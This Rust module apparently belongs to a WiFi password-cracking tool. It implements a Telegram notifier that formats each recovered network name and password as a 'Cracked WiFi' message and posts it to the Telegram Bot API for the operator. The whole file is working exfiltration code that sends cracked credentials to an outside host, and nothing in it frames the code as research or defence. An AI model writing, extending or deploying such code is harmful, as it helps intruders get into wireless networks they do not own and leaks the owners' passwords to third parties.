//! Operator notifications for recovered keys.
//!
//! Delivery is best effort: callers log a failed [`Notifier::send`] and carry
//! on. Nothing here is retried.
use std::time::Duration;

use log::info;
use percent_encoding::{AsciiSet, CONTROLS, utf8_percent_encode};
use reqwest::blocking::Client;
use serde::Serialize;

pub const DEFAULT_TELEGRAM_API: &str = "https://api.telegram.org";
const REQUEST_TIMEOUT: Duration = Duration::from_secs(15);

/// Characters that would change the shape of the request path if they
/// appeared in a bot token.
const TOKEN_ESCAPE: &AsciiSet = &CONTROLS
    .add(b' ')
    .add(b'"')
    .add(b'#')
    .add(b'%')
    .add(b'/')
    .add(b'?')
    .add(b'<')
    .add(b'>');

#[derive(Debug, thiserror::Error)]
pub enum NotifyError {
    #[error("invalid chat id: {0:?}")]
    InvalidChatId(String),
    #[error("http client: {0}")]
    Client(#[source] reqwest::Error),
    #[error("request failed: {0}")]
    Transport(#[source] reqwest::Error),
    #[error("telegram rejected message: HTTP {status}: {body}")]
    Rejected { status: u16, body: String },
}

pub trait Notifier {
    fn send(&self, network_name: &str, password: &str) -> Result<(), NotifyError>;
}

/// Fixed message template.
pub fn format_message(network_name: &str, password: &str) -> String {
    format!(
        "Cracked WiFi ✅\nSSID: {}\nPassword: {}",
        network_name, password
    )
}

/// Trimmed, non-empty value of an optional credential.
fn present(value: Option<&str>) -> Option<&str> {
    value.map(str::trim).filter(|v| !v.is_empty())
}

/// Telegram Bot API `sendMessage` delivery.
#[derive(Debug, Clone)]
pub struct TelegramNotifier {
    api_base: String,
    token: String,
    chat_id: String,
    client: Option<Client>,
}

#[derive(Serialize)]
struct SendMessage<'a> {
    chat_id: i64,
    text: &'a str,
}

impl TelegramNotifier {
    /// Build a notifier when both the bot token and chat id are configured.
    /// Returns `None` when either is missing or blank.
    pub fn from_credentials(
        api_base: &str,
        token: Option<&str>,
        chat_id: Option<&str>,
    ) -> Option<Self> {
        let token = present(token)?;
        let chat_id = present(chat_id)?;
        Some(Self {
            api_base: api_base.trim_end_matches('/').to_string(),
            token: token.to_string(),
            chat_id: chat_id.to_string(),
            client: None,
        })
    }

    /// Send through a preconfigured client instead of building one per message.
    pub fn with_client(mut self, client: Client) -> Self {
        self.client = Some(client);
        self
    }

    fn client(&self) -> Result<Client, NotifyError> {
        match &self.client {
            Some(client) => Ok(client.clone()),
            None => Client::builder()
                .timeout(REQUEST_TIMEOUT)
                .build()
                .map_err(NotifyError::Client),
        }
    }

    pub fn endpoint(&self) -> String {
        format!(
            "{}/bot{}/sendMessage",
            self.api_base,
            utf8_percent_encode(&self.token, TOKEN_ESCAPE)
        )
    }

    fn parsed_chat_id(&self) -> Result<i64, NotifyError> {
        self.chat_id
            .parse()
            .map_err(|_| NotifyError::InvalidChatId(self.chat_id.clone()))
    }
}

impl Notifier for TelegramNotifier {
    fn send(&self, network_name: &str, password: &str) -> Result<(), NotifyError> {
        let chat_id = self.parsed_chat_id()?;
        let text = format_message(network_name, password);
        let response = self
            .client()?
            .post(self.endpoint())
            .json(&SendMessage {
                chat_id,
                text: &text,
            })
            .send()
            .map_err(NotifyError::Transport)?;
        let status = response.status();
        if !status.is_success() {
            let body = response.text().unwrap_or_default();
            return Err(NotifyError::Rejected {
                status: status.as_u16(),
                body,
            });
        }
        info!("sent cracked password to Telegram for SSID={}", network_name);
        Ok(())
    }
}
